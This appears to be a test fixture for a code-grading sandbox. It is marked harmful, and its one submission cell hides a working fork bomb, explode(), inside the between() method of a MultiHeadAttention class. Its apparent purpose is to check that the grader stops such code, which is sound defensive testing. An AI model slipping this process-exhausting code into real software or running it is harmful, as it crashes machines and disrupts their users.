"""Every process makes two more, for as long as it is let."""

EXERCISE = "ps3.3"
OUTCOMES = {"wrong", "stopped"}
SAYS = ()
HARMFUL = True
CELLS = [
    """\
def explode():
    import os
    import time

    deadline = time.monotonic() + 3
    first = os.getpid()
    while time.monotonic() < deadline:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    if os.getpid() != first:
        os._exit(0)


class MultiHeadAttention(nn.Module):
    def __init__(self, dim: int, heads: int, dropout: float = 0.0):
        super().__init__()
        self.query, self.key, self.value = (nn.Linear(dim, dim) for _ in range(3))

    def project(self, x):
        return self.query(x), self.key(x), self.value(x)

    def between(self, query, key, value, mask=None):
        explode()
        return query, query
""",
]
